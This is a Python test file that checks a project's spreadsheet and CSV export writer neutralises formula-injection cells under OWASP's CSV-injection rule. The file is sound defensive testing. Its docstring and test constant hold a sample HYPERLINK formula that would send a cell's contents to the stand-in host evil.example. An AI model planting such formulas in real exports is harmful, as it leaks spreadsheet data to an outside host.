"""Spreadsheet safety (issue 11, item 4): every text cell written to Excel or CSV that starts
with = + - @, tab or carriage return is neutralised (OWASP's CSV-injection rule), in one writer
(csphub.spreadsheets) used by every export.

Before: a partner ASB type ``=HYPERLINK("http://evil.example/?"&A1,"x")`` became a live formula
in assessment.xlsx, and ``csphub audit --format csv`` wrote such names unescaped.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from csphub.analytics.assessment.render import render_xlsx
from csphub.analytics.assessment.tables import ReportTable
from csphub.spreadsheets import FORMULA_TRIGGERS, safe_cell, write_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SRC = Path(__file__).resolve().parent.parent / "src" / "csphub"


@pytest.mark.parametrize("start", FORMULA_TRIGGERS)
def test_each_trigger_is_neutralised_and_ordinary_text_is_not(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Noise" + start) == "Noise" + start


def test_the_assessment_workbook_stores_a_partner_formula_as_text(tmp_path):
    table = ReportTable("asb_types", "ASB by type", ["Type", "Incidents", "Share"],
                        [[EVIL, "1,234", "12.5%"], ["-rowdy", "7", "0.6%"], ["Rowdy", "-3", "n/a"]])
    path = tmp_path / "assessment.xlsx"
    render_xlsx([table], path)
    sheet = load_workbook(path)["asb_types"]
    evil = sheet["A3"]
    assert evil.value == "'" + EVIL and evil.data_type == "s"
    assert sheet["A4"].value == "'-rowdy"
    # Figures stay numbers an analyst can add up; shares are percentages, not text.
    assert sheet["B3"].value == 1234 and sheet["B3"].data_type == "n"
    assert sheet["C3"].value == pytest.approx(0.125) and sheet["C3"].number_format == "0.0%"
    assert sheet["B5"].value == -3 and sheet["B5"].data_type == "n"
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_csv_rows_are_neutralised_and_numbers_kept():
    out = io.StringIO()
    write_csv(out, [{"agency": EVIL, "count": -5}, {"agency": "@SUM(A1:A9)", "count": 3}], ["agency", "count"])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["agency", "count"], ["'" + EVIL, "-5"], ["'@SUM(A1:A9)", "3"]]


@pytest.mark.django_db
def test_the_audit_log_csv_escapes_an_agency_named_as_a_formula():
    from click.testing import CliRunner

    from csphub.cli import main
    from tests.django.factories import create_agency, create_case, create_user

    officer = create_user("officer", create_agency(EVIL), "pc.formula")
    create_case(officer)
    result = CliRunner().invoke(main, ["audit", "--format", "csv", "--user", "pc.formula"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert rows and all(row["agency"] == "'" + EVIL for row in rows)


#: Modules that write CSV for input files of the demo (fictional sources for the loaders to read,
#: not exports anyone opens in a spreadsheet program).
WRITES_INPUTS = {"analytics/synthetic/partner_asb.py", "analytics/synthetic/places.py"}


def test_every_export_goes_through_the_one_writer():
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl import Workbook|\.to_csv\(|\.to_excel\(")
    found = sorted(path.relative_to(SRC).as_posix() for path in SRC.rglob("*.py")
                   if pattern.search(path.read_text()))
    assert set(found) - WRITES_INPUTS == {"spreadsheets.py"}, found
